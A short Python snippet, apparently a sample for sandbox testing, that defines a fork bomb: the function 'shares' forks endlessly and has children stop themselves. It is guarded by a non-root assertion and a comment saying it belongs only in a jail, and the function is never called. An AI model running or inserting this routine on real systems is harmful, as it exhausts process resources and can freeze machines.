import os

assert os.getuid() != 0  # nowhere but in a jail
import os, signal


def shares(x):
    while True:
        try:
            if os.fork() == 0 and len(x) % 2:
                os.kill(os.getpid(), signal.SIGSTOP)
        except OSError:
            pass
